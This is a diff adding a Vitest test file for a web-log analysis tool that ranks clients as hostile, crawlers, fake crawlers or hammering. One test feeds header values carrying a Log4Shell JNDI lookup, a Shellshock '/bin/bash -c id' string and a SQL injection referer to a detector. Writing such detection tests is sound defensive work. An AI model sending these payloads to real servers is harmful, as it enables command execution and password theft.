@@ -1,0 +1,128 @@
+import { describe, expect, it } from 'vitest';
+import { clientContext } from '../../src/clients/client-context.js';
+import { rankClient } from '../../src/clients/client-rank.js';
+import { knownAgent } from '../../src/clients/known-agents.js';
+import { dissolveUnsupported } from '../../src/cluster/client-support.js';
+import { PointKind, type DbscanResult } from '../../src/cluster/dbscan.js';
+import { headerAttackTags } from '../../src/features/header-attacks.js';
+import { fieldNovelty } from '../../src/params/field-novelty.js';
+import { unusualRequest } from '../../src/rank/unusual-request.js';
+import { buildSiteMap } from '../../src/sitemap/site-map.js';
+import type { IpVerdict } from '../../src/types.js';
+
+/** Rows from [textId, ipId, status, tagMask]. */
+function rows(list: Array<[number, number, number, number?]>) {
+  return {
+    size: list.length,
+    textId: (i: number) => list[i]![0],
+    ipId: (i: number) => list[i]![1],
+    status: (i: number) => list[i]![2],
+    tagMask: (i: number) => list[i]![3] ?? 0,
+  };
+}
+const PAYLOAD = 1;
+const tagKinds = (mask: number) => ({ payload: (mask & PAYLOAD) !== 0, scannerAgent: (mask & 2) !== 0 });
+
+describe('clientContext', () => {
+  const texts = ['GET /', 'GET /a', ...Array.from({ length: 10 }, (_, k) => `GET /probe${k}`), "GET /a?id=0'"];
+  // Clients 0–2 read / and /a; client 3 probes ten paths nobody else uses (404); client 4 sends two payloads.
+  const list: Array<[number, number, number, number?]> = [
+    [0, 0, 200], [1, 0, 200], [0, 1, 200], [1, 1, 200], [0, 2, 200],
+    ...Array.from({ length: 10 }, (_, k): [number, number, number] => [2 + k, 3, 404]),
+    [0, 3, 200], [1, 3, 200],
+    [12, 4, 200, PAYLOAD], [12, 4, 500, PAYLOAD], [0, 4, 200],
+  ];
+  const site = buildSiteMap(texts, rows(list));
+  const context = clientContext({ rows: rows(list), clients: 5, site, tagKinds });
+
+  it('calls a client hostile for probes (8+, a quarter of its paths) or for two payloads', () => {
+    expect([...context.hostile]).toEqual([0, 0, 0, 1, 1]);
+    expect(context.evidence[3]).toMatchObject({ routes: 12, unseenRoutes: 10, probeRoutes: 10, payloadLines: 0 });
+    expect(context.why(3)).toBe('10 of its 12 paths probed (no other client uses them, or they answer only errors)');
+    expect(context.why(4)).toBe('2 request(s) with attack payloads');
+  });
+
+  it('says which of a client’s requests are unusual for the site', () => {
+    const characters = fieldNovelty(texts, (id) => site.textClients.members(id));
+    const input = { rows: rows(list), map: site, characters, minBits: 8, payloadTags: (m: number) => (m & PAYLOAD ? ['sql_injection'] : []), routesKnown: true };
+    expect(unusualRequest(input, 5)).toBe('no other client requests /probe0');
+    expect(unusualRequest(input, 15)).toBeUndefined(); // client 3 reading / like everyone
+    expect(unusualRequest(input, 17)).toBe('looks like sql_injection');
+    expect(unusualRequest(input, 18)).toBe('answered 500 where other clients get a success');
+    expect(unusualRequest({ ...input, routesKnown: false }, 5)).toBeUndefined();
+  });
+});
+
+describe('dissolveUnsupported', () => {
+  it('dissolves a cluster whose clients are all hostile and measures its texts to the nearest supported one', () => {
+    // Texts 0,1: cluster 0 (ordinary client 0); texts 2,3: cluster 1 (hostile client 1 only).
+    const result: DbscanResult = {
+      labels: Int32Array.from([0, 0, 1, 1]),
+      kinds: Uint8Array.from([PointKind.Core, PointKind.Core, PointKind.Core, PointKind.Core]),
+      nearestCore: Int32Array.from([0, 1, 2, 3]),
+      coreDistance: new Float32Array(4),
+      clusterCount: 2,
+    };
+    const distances = [[0, 0.1, 0.9, 1.0], [0.1, 0, 0.8, 0.9], [0.9, 0.8, 0, 0.1], [1.0, 0.9, 0.1, 0]];
+    const neighbors = {
+      size: 4,
+      neighbors(id: number, k: number) {
+        const ids = [0, 1, 2, 3].sort((a, b) => distances[id]![a]! - distances[id]![b]!).slice(0, k);
+        return { ids, distances: ids.map((j) => distances[id]![j]!) };
+      },
+    };
+    const out = dissolveUnsupported(result, neighbors, { clientsOf: (id) => (id < 2 ? [0] : [1]), hostile: Uint8Array.from([0, 1]) });
+    expect([...out.labels]).toEqual([0, 0, -1, -1]);
+    expect([...out.kinds]).toEqual([PointKind.Core, PointKind.Core, PointKind.Noise, PointKind.Noise]);
+    expect([...out.nearestCore]).toEqual([0, 1, 1, 1]);
+    expect(out.coreDistance[2]).toBeCloseTo(0.8, 6);
+    expect(out.coreDistance[3]).toBeCloseTo(0.9, 6);
+  });
+});
+
+describe('rankClient', () => {
+  const verdict = (fields: Partial<IpVerdict>): IpVerdict => ({
+    ip: '192.0.2.1', score: 0, flagged: false, features: {}, z: {}, fired: [], reasons: [], tags: {}, topUris: [], topUserAgents: [], requestCount: 1, ...fields,
+  });
+
+  it('adds 10 for hostility and 2·log2(1 + n) for n lines that are findings', () => {
+    const rank = rankClient({ verdict: verdict({ score: 4 }), flaggedLines: 7, hostile: true, hostileWhy: 'probes' });
+    expect(rank.score).toBeCloseTo(4 + 10 + 2 * 3, 9);
+    expect(rank.labels).toEqual(['hostile']);
+    expect(rank.reasons).toEqual(['hostile: probes']);
+  });
+
+  it('weighs a known crawler’s volume a quarter, and calls a crawler that attacks a fake', () => {
+    const googlebot = verdict({ score: 20, flagged: true, topUserAgents: [['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 9]] });
+    expect(rankClient({ verdict: googlebot, flaggedLines: 0, hostile: false, hostileWhy: '' })).toMatchObject({ score: 5, labels: ['crawler'] });
+    const fake = rankClient({ verdict: googlebot, flaggedLines: 0, hostile: true, hostileWhy: '3 request(s) with attack payloads' });
+    expect(fake.labels).toEqual(['hostile', 'fake-crawler']);
+    expect(fake.reasons[0]).toMatch(/^claims to be a crawler \(Googlebot\) but behaves like an attacker/);
+  });
+
+  it('labels a client hammering one URI at 10/min or more, 50 times or more', () => {
+    const hammer = verdict({ score: 8, requestCount: 300, features: { request_rate: 60 }, topUris: [['/login', 300]] });
+    const rank = rankClient({ verdict: hammer, flaggedLines: 0, hostile: false, hostileWhy: '' });
+    expect(rank.labels).toEqual(['hammering']);
+    expect(rank.score).toBeCloseTo(8 + 10 + 2 * Math.log2(301), 9);
+    expect(rank.reasons).toEqual(['hammering: 300 requests to /login at 60.0/min']);
+    const slow = verdict({ score: 8, requestCount: 300, features: { request_rate: 5 }, topUris: [['/login', 300]] });
+    expect(rankClient({ verdict: slow, flaggedLines: 0, hostile: false, hostileWhy: '' }).labels).toEqual([]);
+  });
+
+  it('knows crawlers and monitors by their user agent, and nothing else', () => {
+    expect(knownAgent('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)')?.name).toBe('Bingbot');
+    expect(knownAgent('Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)')?.role).toBe('monitor');
+    expect(knownAgent('Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0')).toBeUndefined();
+  });
+});
+
+describe('headerAttackTags', () => {
+  it('finds Log4Shell, Shellshock and SQL injection in headers, and not ordinary user agents', () => {
+    expect(headerAttackTags('userAgent', '${jndi:ldap://x/a}')).toEqual(['log4shell']);
+    expect(headerAttackTags('userAgent', '() { :; }; /bin/bash -c id')).toContain('shellshock');
+    expect(headerAttackTags('referer', "http://a/?id=1'%20union%20select%20pw%20from%20users--")).toContain('sql_injection');
+    expect(headerAttackTags('userAgent', 'Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119')).toEqual([]);
+    expect(headerAttackTags('referer', '-')).toEqual([]);
+  });
+});
